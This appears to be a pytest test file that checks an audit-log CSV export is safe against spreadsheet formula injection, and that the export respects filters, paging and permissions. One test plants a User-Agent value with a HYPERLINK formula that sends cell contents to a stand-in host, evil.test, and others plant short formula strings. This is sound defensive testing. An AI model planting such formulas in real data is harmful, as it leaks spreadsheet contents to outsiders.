"""The trail as a file: everything the caller's level reaches, and nothing a table program would run."""

from collections.abc import AsyncIterator
import csv
from io import StringIO
from pathlib import Path

from hypothesis import given, strategies
import pytest

from modules.audit import service
from modules.audit.schemas import AuditEventRead, AuditPerson, Outcome
from modules.audit.spreadsheet import csv_of
from modules.shared import clock
from modules.shared.ids import new_id
from tests.support.api_keys import make_key
from tests.support.house import House, house_in
from tests.support.postgres import DatabaseUrls


@pytest.fixture
async def house(database_urls: DatabaseUrls, tmp_path: Path) -> AsyncIterator[House]:
    async with house_in(database_urls, tmp_path) as house:
        for name in ("A", "B", "C"):
            await house.new_role(name)
        await house.new_role("Foreign", by=house.stranger)
        yield house


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(StringIO(text)))


def cells(text: str, delimiter: str) -> list[str]:
    """What a table program that separates so has in its cells."""
    return [cell for line in csv.reader(StringIO(text, newline=""), delimiter=delimiter) for cell in line]


def begins_formula(cell: str) -> bool:
    return cell.lstrip().startswith(("=", "+", "-", "@"))


def event_with(text: str) -> AuditEventRead:
    """Something that happened, with this wherever outsiders may write."""
    return AuditEventRead(
        id=new_id(),
        mandate_id=new_id(),
        occurred_at=clock.now(),
        code="planted",
        outcome=Outcome.REFUSED,
        actor_id=None,
        subject_type=text,
        subject_id=text,
        request_id=text,
        count=1,
        details={"reason": text, "list": [text, -1]},
        person=AuditPerson(user_id=None, email=text, ip=text, device=text),
    )


class TestACell:
    @given(text=strategies.text(alphabet="=+-@;,\t\r\n \"'ab", max_size=12))
    def test_is_no_formula_however_the_file_is_cut(self, text: str) -> None:
        file = csv_of([event_with(text)], header=False)
        for delimiter in ",;\t":
            assert not [cell for cell in cells(file, delimiter) if begins_formula(cell)]

    @given(text=strategies.text(max_size=20))
    def test_tells_what_happened_quotes_aside(self, text: str) -> None:
        file = csv_of([event_with(text)], header=False)
        (line,) = csv.reader(StringIO(file, newline=""))
        assert line[5].replace("'", "") == text.replace("'", "")

    @pytest.mark.parametrize("harmless", ["Mozilla/5.0 (X11; Linux x86_64)", "2026-01-01, a-b", "a=b", "x;y", ""])
    def test_stays_as_it_is_otherwise(self, harmless: str) -> None:
        file = csv_of([event_with(harmless)], header=False)
        (line,) = csv.reader(StringIO(file, newline=""))
        assert line[5] == harmless


class TestTheFile:
    async def test_holds_what_the_list_does(self, house: House) -> None:
        listed = (await house.call(house.administrator, "GET", "/audit")).json()["items"]
        answer = await house.call(house.administrator, "GET", "/audit.csv")
        assert answer.headers["content-type"] == "text/csv; charset=utf-8"
        told = rows(answer.text)
        assert [row["request_id"] for row in told] == [event["request_id"] for event in listed]
        assert {row["actor_id"] for row in told} == {str(house.administrator.id)}
        assert {row["person_id"] for row in told} == {str(house.administrator.id)}

    async def test_goes_on_over_many_pages(self, house: House, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr(service, "_EXPORTED_TOGETHER", 1)
        answer = await house.call(house.administrator, "GET", "/audit.csv")
        assert len(rows(answer.text)) == 3
        assert answer.text.count("occurred_at") == 1

    async def test_is_filtered_like_the_list(self, house: House) -> None:
        answer = await house.call(house.administrator, "GET", "/audit.csv?code=nothing_of_the_kind")
        assert rows(answer.text) == []
        assert answer.text.startswith("occurred_at,")

    async def test_begins_no_cell_as_a_formula(self, house: House) -> None:
        for text in ("=1+1", "+1", "-1", "@x", "\tx", "\rx"):
            await house.gateway.sql(
                "INSERT INTO audit_events (id, mandate_id, occurred_at, code, outcome, subject_id)"
                " VALUES (:id, :mandate, now(), 'planted', 'done', :text)",
                id=new_id(),
                mandate=house.mandate,
                text=text,
            )
        answer = await house.call(house.administrator, "GET", "/audit.csv?code=planted")
        cells = [row["subject_id"] for row in rows(answer.text)]
        assert sorted(cells) == sorted(f"'{text}" for text in ("=1+1", "+1", "-1", "@x", "\tx", "\rx"))

    async def test_begins_none_where_something_else_separates_either(self, house: House) -> None:
        program = 'Mozilla;=HYPERLINK("http://evil.test"&A1);x'
        async with house.gateway.client(house.stranger, house.mandate, None, **{"User-Agent": program}) as client:
            assert (await client.get("/api/v1/audit")).status_code == 403
        await house.gateway.services.get(service.RefusalLog).flush()
        answer = await house.call(house.administrator, "GET", "/audit.csv")
        assert [row["device"] for row in rows(answer.text) if "evil" in row["device"]] == [
            """Mozilla;'=HYPERLINK("http://evil.test"&A1);x"""
        ]
        assert not [cell for delimiter in ",;\t" for cell in cells(answer.text, delimiter) if begins_formula(cell)]

    async def test_is_refused_like_the_list(self, house: House) -> None:
        for path in ("/audit", "/audit.csv"):
            answer = await house.call(house.member, "GET", path)
            assert (answer.status_code, answer.json()["code"]) == (403, "permission_denied")

    async def test_is_there_for_programs(self, house: House) -> None:
        key = await make_key(house.gateway, house.administrator, "audit:read:my")
        async with key.client(house.mandate) as client:
            answer = await client.get("/api/v1/audit.csv")
        assert answer.status_code == 200
        assert {row["actor_id"] for row in rows(answer.text)} == {str(house.administrator.id)}
